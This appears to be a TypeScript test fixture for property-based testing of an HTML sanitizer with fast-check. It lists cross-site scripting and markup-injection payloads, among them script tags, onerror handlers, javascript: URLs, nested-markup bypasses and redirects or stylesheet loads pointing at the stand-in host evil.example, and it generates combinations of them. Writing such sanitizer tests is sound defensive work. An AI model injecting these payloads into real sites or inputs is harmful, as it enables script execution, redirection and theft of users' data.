import * as fc from 'fast-check';

/** Pieces of markup that run code, lead to another site or break out of an element; they would call `pwned`. */
export const hostilePieces = [
  '<script>pwned()</script>',
  '</script><script>pwned()</script>',
  '</title></style></textarea></noscript><script>pwned()</script>',
  '"><img src=x onerror=pwned()>',
  "' onmouseover='pwned()' x='",
  '<img src=x onerror=pwned()>',
  '<svg onload=pwned()><script>pwned()</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=pwned()></style></mglyph></table></mtext></math>',
  '<noscript><p title="</noscript><img src=x onerror=pwned()>">',
  '<form action="//evil.example"><input name=card><button formaction="javascript:pwned()">x</button></form>',
  '<iframe srcdoc="<script>parent.pwned()</script>"></iframe>',
  '<frameset><frame src="javascript:pwned()"></frameset>',
  '<object data="javascript:pwned()"></object><embed src="javascript:pwned()"><applet code=x></applet>',
  '<meta http-equiv="refresh" content="0;url=//evil.example">',
  '<base href="//evil.example/"><link rel=stylesheet href="//evil.example/x.css">',
  '<style>@import "//evil.example/x.css"; body { display: none }</style>',
  '<a href="javascript:pwned()">x</a><a href=" java\tscript:pwned()">x</a><a href="data:text/html,x">x</a>',
  'javascript:pwned()',
  ' &#14; java&#x09;script:pwned()',
  'data:text/html,<script>pwned()</script>',
  '&lt;script&gt;pwned()&lt;/script&gt;',
  '&amp;lt;img src=x onerror=pwned()&amp;gt;',
  '<<b>script>pwned()<</b>/script>',
  '<!--<img src=x onerror=pwned()>-->',
  '<![CDATA[<img src=x onerror=pwned()>]]>',
  '{{constructor.constructor("pwned()")()}}',
] as const;

const wrapped = (text: string, wrap: 'none' | 'paragraph' | 'open' | 'entities'): string => {
  switch (wrap) {
    case 'none':
      return text;
    case 'paragraph':
      return `<p>${text}</p>`;
    case 'open':
      return `<table><tr><td title="${text}`;
    case 'entities':
      return text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('"', '&quot;');
  }
};

/** Generates hostile markup: some of the pieces, joined by bits of markup and letters, unescaped or escaped once. */
export const anyHostileText: fc.Arbitrary<string> = fc
  .tuple(
    fc.array(
      fc.oneof(fc.constantFrom(...hostilePieces), fc.constantFrom('<', '"', "'", '>', '<p ', '-->', '\0', 'x')),
      {
        minLength: 1,
        maxLength: 4,
      },
    ),
    fc.constantFrom('none', 'paragraph', 'open', 'entities'),
  )
  .map(([pieces, wrap]) => wrapped(pieces.join(''), wrap));
